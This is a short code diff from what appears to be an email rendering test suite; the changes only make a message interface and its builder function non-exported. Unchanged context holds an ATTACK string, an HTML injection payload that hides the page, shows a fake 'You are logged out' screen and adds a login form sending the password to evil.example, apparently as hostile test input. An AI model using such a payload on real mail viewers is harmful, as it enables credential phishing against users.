@@ -6,7 +6,7 @@ import { Person } from '../support/person.ts'
 import { until } from '../support/test-clock.ts'
 
 /** A message, as fields of a send request or as the raw message. */
-export interface UnusualMail {
+interface UnusualMail {
   readonly name: string
   readonly fields: object | string
 }
@@ -21,7 +21,7 @@ const times = (count: number, write: (at: number) => string): string =>
 const ATTACK = `</style></div></main></iframe><style>*{display:none!important}body::before{content:'You are logged out';position:fixed;inset:0;background:#fff;z-index:2147483647;display:block!important}</style><script>document.body.textContent='x'</script><base href="https://evil.example/"><form action="https://evil.example/"><input name="password"><button>Log in</button></form>`
 
 /** Returns the messages. */
-export function unusualMails(): UnusualMail[] {
+function unusualMails(): UnusualMail[] {
   const to = [{ email: 'ann@receiver.example', name: 'Ann' }]
   const mail = (name: string, subject: string, fields: object): UnusualMail => ({
     name,
